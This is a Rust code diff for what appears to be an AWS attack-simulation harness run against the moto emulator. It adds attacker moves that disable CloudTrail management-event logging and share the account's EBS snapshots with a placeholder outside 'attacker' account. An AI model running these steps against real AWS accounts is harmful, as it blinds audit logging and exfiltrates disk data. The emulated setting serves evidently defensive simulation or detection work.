@@ -16,6 +16,8 @@ use crate::Error;
 /// Any AMI id launches in moto; its catalogue is off (see `Emulator::start`).
 const IMAGE: &str = "ami-12c6146b";
 const ADMIN_POLICY: &str = "arn:aws:iam::aws:policy/AdministratorAccess";
+/// The account the attacker shares snapshots with: outside the organization.
+pub const ATTACKER_ACCOUNT: &str = "999999999999";
 
 /// SDK clients signed as the emulator's administrator.
 pub struct Admin {
@@ -554,6 +556,54 @@ pub async fn play(admin: &Admin, m: &Move) -> (String, Played) {
                 .map(|_| (vec![trail.clone()], Vec::new()))
                 .map_err(|e| error_text(&e));
             (format!("trail {trail}"), r)
+        }
+        MoveKind::MuteTrail => {
+            let trail = m.trail.clone().unwrap_or_default();
+            let muted = aws_sdk_cloudtrail::types::EventSelector::builder()
+                .read_write_type(aws_sdk_cloudtrail::types::ReadWriteType::All)
+                .include_management_events(false)
+                .build();
+            let r = admin
+                .cloudtrail(&region)
+                .put_event_selectors()
+                .trail_name(&trail)
+                .event_selectors(muted)
+                .send()
+                .await
+                .map(|_| (vec![trail.clone()], Vec::new()))
+                .map_err(|e| error_text(&e));
+            (format!("trail {trail}"), r)
+        }
+        MoveKind::ShareSnapshots => {
+            let ec2 = admin.ec2(&region);
+            let r = async {
+                let snaps = ec2
+                    .describe_snapshots()
+                    .owner_ids("self")
+                    .send()
+                    .await
+                    .map_err(|e| error_text(&e))?;
+                let mut shared = Vec::new();
+                for s in snaps.snapshots().iter().take(limit(m.count)) {
+                    let Some(id) = s.snapshot_id() else { continue };
+                    // The flat UserId.N form: moto 5 ignores the structured
+                    // CreateVolumePermission one.
+                    ec2.modify_snapshot_attribute()
+                        .snapshot_id(id)
+                        .attribute(
+                            aws_sdk_ec2::types::SnapshotAttributeName::CreateVolumePermission,
+                        )
+                        .operation_type(aws_sdk_ec2::types::OperationType::Add)
+                        .user_ids(ATTACKER_ACCOUNT)
+                        .send()
+                        .await
+                        .map_err(|e| error_text(&e))?;
+                    shared.push(id.to_string());
+                }
+                Ok((shared, Vec::new()))
+            }
+            .await;
+            (region.clone(), r)
         }
         MoveKind::LaunchInstance => {
             let r = admin
